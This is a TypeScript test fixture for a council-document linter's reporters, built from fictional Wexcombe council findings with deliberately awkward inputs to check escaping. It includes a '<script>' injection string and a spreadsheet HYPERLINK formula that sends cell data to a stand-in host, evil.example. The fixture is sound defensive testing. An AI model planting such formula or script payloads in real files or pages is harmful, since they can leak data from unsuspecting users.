/**
 * Hand-built results for the reporter tests: a fictional council (Wexcombe), fictional officers, Ofcom drama
 * numbers. The awkward cases are deliberate: a path with a space, comma, colon and `#`; a message with quotes,
 * commas, a newline, a pipe, an @-mention, `%` and `<script>`; a formula in an excerpt; control characters;
 * a masked excerpt; an attachment on page 2; two findings with the same fingerprint in one file; a file
 * that could not be read; a suppression directive that suppresses nothing; a clean file.
 */
import path from 'node:path';
import type { FileResult, Finding } from '../../src/types.js';
import type { ReportContext, RuleInfo } from '../../src/report/types.js';

export const CWD = path.resolve('/srv/wexcombe/democratic-services');
export const abs = (rel: string) => path.join(CWD, ...rel.split('/'));

export const HOSTILE_MESSAGE =
  'Officer named in a press reply: "Yasmin Treloar, Head of Planning, has been useless", says Cllr Dunmore | 100% sure\n@planning-team <script>alert("x")</script>';
export const FORMULA_EXCERPT = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
export const EMAIL_PATH = 'inbox/Re: press, "quote" #42.eml';

function finding(partial: Partial<Finding> & Pick<Finding, 'ruleId' | 'severity' | 'message' | 'line'>): Finding {
  return { column: 1, endLine: partial.line, endColumn: 20, ...partial };
}

export function sampleResults(): FileResult[] {
  const report: Finding[] = [
    finding({
      ruleId: 'ward/notification-missing',
      severity: 1,
      message: 'Castle ward is affected but there is no record that the ward members were told.',
      line: 3,
      endColumn: 28,
      excerpt: 'Ward(s) affected: Castle',
      clause: 'Leicestershire Part 5C para 32',
      suggestion: 'Tell the Castle ward members before publication and record it: "Ward members consulted: …".',
      fingerprint: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
    }),
    finding({
      ruleId: 'officer/derogatory-reference',
      severity: 2,
      message: 'A named officer (Yasmin Treloar, Head of Planning) is criticised in a public report.',
      line: 12,
      column: 5,
      endColumn: 61,
      excerpt: 'Yasmin Treloar has made a complete hash of the Local Plan',
      context: 'Frankly, Yasmin Treloar has made a complete hash of the Local Plan.',
      clause: 'Leicestershire Part 5C para 9',
      suggestion: "Raise concerns about an officer's performance privately with the Chief Executive.",
      fingerprint: '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
    }),
    finding({
      ruleId: 'confidential/personal-data',
      severity: 2,
      message: 'A personal phone number appears in a public report.',
      line: 20,
      column: 14,
      endColumn: 27,
      excerpt: '[phone number]',
      context: 'Call Mr Okafor on [phone number] after 6pm.',
      clause: 'North Northamptonshire Protocol 6.6',
      suggestion: 'Remove the number; give the council switchboard instead.',
      fingerprint: 'ffeeddccbbaa99887766554433221100',
      notes: ['Personal data: the number itself is not shown in this report.'],
    }),
    // The same sentence later in the report: same rule, same normalised text, so the same engine fingerprint.
    finding({
      ruleId: 'officer/derogatory-reference',
      severity: 2,
      message: 'A named officer (Yasmin Treloar, Head of Planning) is criticised in a public report.',
      line: 31,
      column: 1,
      endColumn: 57,
      excerpt: 'Yasmin Treloar has made a complete hash of the Local Plan',
      clause: 'Leicestershire Part 5C para 9',
      suggestion: "Raise concerns about an officer's performance privately with the Chief Executive.",
      fingerprint: '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
    }),
    finding({
      ruleId: 'directive/unused',
      severity: 1,
      message: 'Suppression directive for publicity/party-reference suppresses nothing on line 41.',
      line: 40,
      endColumn: 1,
      suggestion: 'Remove the directive, or move it to the line before the finding it is meant for.',
    }),
  ];
  const email: Finding[] = [
    finding({
      ruleId: 'publicity/party-reference',
      severity: 1,
      message: HOSTILE_MESSAGE,
      line: 58,
      column: 3,
      endColumn: 40,
      page: 2,
      attachment: 'Briefing note, v2.pdf',
      excerpt: FORMULA_EXCERPT,
      clause: 'LGA 1986 s.2; Publicity Code 2011 para 15',
      suggestion: '-- remove the party slogan; keep to the facts of the decision.',
      fingerprint: '11223344556677889900aabbccddeeff',
    }),
    finding({
      ruleId: 'officer/pressure-on-officer',
      severity: 2,
      message: 'Pressure on an officer\u0001 to change advice\u0007 before Friday.',
      line: 9,
      column: 1,
      endColumn: 44,
      excerpt: '@Yasmin I expect this sorted by Friday',
      clause: 'Blackburn with Darwen C1.6',
      suggestion: '+ Put the request through the Director of Place.',
      fingerprint: '99887766554433221100ffeeddccbbaa',
    }),
  ];
  return [
    {
      filePath: abs('reports/cabinet 2027-01-14.md'),
      kind: 'report',
      format: 'markdown',
      audience: 'public',
      messages: report,
      errorCount: 3,
      warningCount: 2,
      suppressedCount: 1,
    },
    { filePath: abs(EMAIL_PATH), kind: 'email', format: 'eml', audience: 'press', messages: email, errorCount: 1, warningCount: 1 },
    {
      filePath: abs('archive/old minutes.docx'),
      kind: 'other',
      messages: [
        {
          ruleId: 'input/unreadable',
          severity: 2,
          message: 'archive/old minutes.docx: the file is not a valid .docx (the zip archive is damaged).',
          line: 1,
          column: 1,
          endLine: 1,
          endColumn: 1,
          suggestion: 'Check that the file opens in the program that made it; re-save or re-export it, then check it again.',
        },
      ],
      errorCount: 1,
      warningCount: 0,
    },
    { filePath: abs('notes/clean note.txt'), kind: 'letter', format: 'text', audience: 'internal', messages: [], errorCount: 0, warningCount: 0 },
  ];
}

const RULES: RuleInfo[] = [
  {
    id: 'officer/derogatory-reference',
    description: 'Derogatory references to officers in public or external documents.',
    clause: 'Leicestershire Part 5C para 9',
    defaultSeverity: 'error',
    suggestion: "Raise concerns about an officer's performance privately.",
    help: '# officer/derogatory-reference\n\nFlags **derogatory** remarks about a named officer.\n\n> Members should not criticise officers in public.\n\nSee [the protocol](https://example.org/protocol).',
  },
  { id: 'officer/pressure-on-officer', description: 'Pressure on officers to change professional advice.', clause: 'Blackburn with Darwen C1.6', defaultSeverity: 'error' },
  { id: 'confidential/personal-data', description: 'Personal data in public text.', clause: 'North Northamptonshire Protocol 6.6', defaultSeverity: 'error' },
  { id: 'ward/notification-missing', description: 'Sensitive ward items without notice to ward members.', clause: 'Leicestershire Part 5C para 32', defaultSeverity: 'warning' },
  { id: 'publicity/party-reference', description: 'Party-political content in council publicity.', clause: 'LGA 1986 s.2', defaultSeverity: 'warning' },
  { id: 'publicity/unused-rule', description: 'A rule that finds nothing in these results.', defaultSeverity: 'warning' },
  { id: 'input/unreadable', description: 'A file could not be read (empty, corrupt, encrypted, too large, or gone).', defaultSeverity: 'error', suggestion: 'Re-save or re-export the file and check it again.' },
  { id: 'directive/unused', description: 'A suppression directive suppresses nothing.', defaultSeverity: 'warning', suggestion: 'Remove it, or move it to the line before the finding.' },
];

export function sampleContext(): ReportContext {
  return { cwd: CWD, color: false, rules: new Map(RULES.map((r) => [r.id, r])), toolVersion: '0.1.0' };
}

/** The same results with every line moved down (an edit above the findings). */
export function shifted(results: FileResult[], by: number): FileResult[] {
  return results.map((r) => ({ ...r, messages: r.messages.map((m) => ({ ...m, line: m.line + by, endLine: m.endLine + by })) }));
}

export const allFindings = (results: FileResult[]) => results.flatMap((r) => r.messages);
